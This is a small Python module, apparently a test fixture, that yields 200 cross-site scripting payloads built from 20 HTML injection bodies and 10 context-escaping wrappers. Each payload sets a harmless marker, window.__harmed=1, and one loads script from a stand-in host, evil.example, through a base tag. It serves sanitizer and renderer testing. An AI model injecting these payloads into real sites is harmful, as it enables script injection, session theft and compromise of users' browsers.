"""Texts that would do harm on a page that takes one of them for its own."""

from collections.abc import Iterator

MARK = "window.__harmed=1"

_BODIES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src=javascript:parent.{}>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<style>@import 'x';</style><link rel=stylesheet href=x onerror={}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<marquee onstart={}>",
    "<base href=//evil.example/><script src=x></script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<template><script>{}</script></template>",
    "<!--<img src=--><img src=x onerror={}>",
)
_WRAPS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "]]>{}",
    "--!>{}",
    "`>{}",
    "&lt;{}",
)


def payloads() -> Iterator[str]:
    """Yield 200 of them."""
    for wrap in _WRAPS:
        for body in _BODIES:
            yield wrap.format(body.replace("{}", MARK))
